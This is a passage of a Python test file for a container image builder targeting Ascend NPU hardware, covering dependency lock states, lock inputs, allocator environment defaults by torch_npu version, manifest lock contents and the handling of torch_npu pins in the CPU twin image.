    assert "six==1.16.0" in stale.installs[0].lines
    assert render.dockerfile(stale).decode().replace("lock is stale", "lock is missing") \
        .replace('lock="stale"', 'lock="missing"') == render.dockerfile(missing).decode()
    # the same lock with another inputs digest, on the unchanged cell, is stale too
    other = dataclasses.replace(lock7, inputs="0" * 16)
    assert plan.plan(cell7, kb, "cpu", DIGEST, other).lock_state == "stale"
    assert plan.plan(cell7, kb, "cpu", DIGEST, other).installs == \
        tuple(dataclasses.replace(i, reason="The cell's lock is stale: run `ascend-build lock`")
              for i in plan.plan(cell7, kb, "cpu", DIGEST).installs)


def test_lock_inputs(shipped, kb, cell7):
    """What `ascend-build lock` resolves: CANN's packages, the CPU torch, torch_npu, the cell's pins,
    the installer's own packages; CANN's limits as constraints."""
    assert plan.lock_inputs(cell7, kb) == locking.Inputs(
        cell=CELL_7, python="3.9", platform="x86_64-manylinux_2_35",
        requirements=("attrs", "cython", "numpy", "decorator", "sympy", "cffi", "pyyaml", "pathlib2", "psutil",
                      "protobuf", "scipy", "requests", "absl-py", "torch==2.1.0+cpu", "torch-npu==2.1.0rc1",
                      "pip", "setuptools", "wheel"),
        constraints=("numpy<2", "protobuf>=3.20,<3.21", "setuptools<82"),
        torch_index="https://download.pytorch.org/whl/cpu",
        conda=("python 3.9.*", "pip"), conda_channel="https://conda.anaconda.org/conda-forge")
    arm = plan.lock_inputs(shipped[CELL_7_ARM], kb)
    assert (arm.platform, arm.torch_index) == ("aarch64-manylinux_2_35", "")
    assert "torch==2.1.0" in arm.requirements  # aarch64: PyPI's torch is the CPU build
    demo = plan.lock_inputs(shipped[DEMO], kb)
    assert demo.requirements[-4:] == ("torch==2.13.0+cpu", "torch-npu==2.13.0", "pip", "setuptools")  # venv: no wheel
    # CANN 9.1.0 lifts the protobuf 3.20 limit; its guide's floors on decorator, sympy and cffi reach the lock
    assert demo.constraints == ("decorator>=4.4.0", "sympy>=1.5.1", "cffi>=1.12.3", "numpy>=1.19.2", "setuptools<82")
    pinned = dataclasses.replace(cell7, pip=("six==1.16.0",))
    assert plan.lock_inputs(pinned, kb).requirements[-4:] == ("six==1.16.0", "pip", "setuptools", "wheel")


# --- environment defaults the torch_npu release accepts -----------------------------------------


def test_the_allocator_default_only_where_torch_npu_takes_it(shipped, demo, cell7, kb):
    """torch_npu 2.1.0rc1 stops at the first allocation on expandable_segments; from 2.1.0.post3 on
    the default is set. A cell's own value is kept either way."""
    general = (("ASCEND_GLOBAL_LOG_LEVEL", "3"), ("HCCL_CONNECT_TIMEOUT", "1800"))
    assert plan.env_vars(cell7) == general
    assert plan.plan(cell7, kb, "npu", DIGEST).block(blocks.EnvDefaults).env == general
    assert "PYTORCH_NPU_ALLOC_CONF" not in plan.final_env(cell7, "npu", knowledge.load())
    assert "PYTORCH_NPU_ALLOC_CONF" not in manifest(cell7, "cpu", DIGEST, knowledge.load())["env"]
    assert "PYTORCH_NPU_ALLOC_CONF" not in _dockerfile(cell7, kb, "npu", None)
    assert plan.env_vars(demo) == FIELD_GUIDE_ENV
    assert 'ENV PYTORCH_NPU_ALLOC_CONF="expandable_segments:True"\n' in _dockerfile(demo, kb, "npu", None)
    assert plan.env_vars(dataclasses.replace(cell7, torch_npu="2.1.0.post2")) == general
    assert dict(plan.env_vars(dataclasses.replace(cell7, torch_npu="2.1.0.post3")))["PYTORCH_NPU_ALLOC_CONF"] == \
        "expandable_segments:True"
    for cell in (cell7, demo):
        tuned = dataclasses.replace(cell, env_vars=(("PYTORCH_NPU_ALLOC_CONF", "max_split_size_mb:128"),))
        assert dict(plan.env_vars(tuned))["PYTORCH_NPU_ALLOC_CONF"] == "max_split_size_mb:128"
        text = _dockerfile(tuned, kb, "npu", None)
        assert [line for line in text.splitlines() if "PYTORCH_NPU_ALLOC_CONF" in line] == \
            ['ENV PYTORCH_NPU_ALLOC_CONF="max_split_size_mb:128"']
        assert manifest(tuned, "npu", DIGEST, knowledge.load())["env"]["PYTORCH_NPU_ALLOC_CONF"] == "max_split_size_mb:128"


def test_a_cells_allocator_value_from_the_matrix_is_kept(tmp_path, kb):
    path, _ = write_cells(tmp_path, {"name": "tuned", "os": "ubuntu22.04", "arch": "x86_64", "chip": "910b",
                                     "cann": "7.0.RC1", "python": "3.9", "torch_npu": "2.1.0rc1",
                                     "env_vars": {"PYTORCH_NPU_ALLOC_CONF": "max_split_size_mb:128"}})
    loaded = matrix.load(path)
    assert loaded.findings == []
    [cell] = loaded.cells
    assert plan.env_vars(cell) == (("ASCEND_GLOBAL_LOG_LEVEL", "3"), ("HCCL_CONNECT_TIMEOUT", "1800"),
                                   ("PYTORCH_NPU_ALLOC_CONF", "max_split_size_mb:128"))


# --- the manifest's lock ---------------------------------------------------------------------------


def test_manifest_lock_of_the_npu_image_and_its_twin(demo, demo_lock, cell7, lock7, kb):
    everything = {e.name: e.version for e in demo_lock.entries}
    npu = manifest(demo, "npu", DIGEST, kb, demo_lock)["lock"]
    cpu = manifest(demo, "cpu", DIGEST, kb, demo_lock)["lock"]
    assert npu == {"state": "ok", "file": LOCK_PATH, "distributions": everything, "unverified": []}
    assert cpu == {"state": "ok", "file": LOCK_PATH,
                   "distributions": {k: v for k, v in everything.items() if k != "torch-npu"}, "unverified": []}
    assert (npu["distributions"]["torch-npu"], npu["distributions"]["torch"]) == ("2.13.0", "2.13.0+cpu")
    assert "torch-npu" not in cpu["distributions"] and cpu["distributions"]["torch"] == "2.13.0+cpu"
    incomplete = manifest(cell7, "cpu", DIGEST, kb, lock7)["lock"]
    assert (incomplete["state"], incomplete["file"], incomplete["unverified"]) == ("incomplete", LOCK_PATH, ["torch"])
    assert incomplete["distributions"]["torch"] == "2.1.0+cpu" and "torch-npu" not in incomplete["distributions"]
    nothing: Dict[str, Any] = {"state": "missing", "file": None, "distributions": {}, "unverified": []}
    assert manifest(cell7, "npu", DIGEST, kb, None)["lock"] == nothing
    stale = manifest(cell7, "npu", DIGEST, kb, dataclasses.replace(lock7, inputs="0" * 16))["lock"]
    assert stale == dict(nothing, state="stale")


# --- pins named like torch_npu ------------------------------------------------------------------


@pytest.mark.parametrize("pin", ["torch-npux==1.0", "torch_npu==2.1.0rc1"])
def test_without_a_lock_only_torch_npu_itself_is_left_out_of_the_twin(cell7, kb, pin):
    """The twin is the NPU image minus torch_npu: a matrix pin other than torch_npu is in both, and
    torch_npu, however the matrix spells it, in neither the twin nor a step other than its own
    (unless validate refuses the pin)."""
    from builder.images import checks

    pinned = dataclasses.replace(cell7, pip=(pin,))
    if any(f.severity == "error" for f in checks.check([pinned], kb)):
        return
    npu, cpu = (plan.plan(pinned, kb, v, DIGEST) for v in vocabulary.VARIANTS)
    if canonicalize_name(Requirement(pin).name) == "torch-npu":
        assert not any(canonicalize_name(n) == "torch-npu" for i in cpu.installs for n in i.names)
        assert not any(canonicalize_name(n) == "torch-npu" for n in npu.installs[0].names)
    else:
        assert pin in cpu.installs[0].lines and pin in npu.installs[0].lines
        assert npu.installs[1].lines == ("torch-npu==2.1.0rc1",)
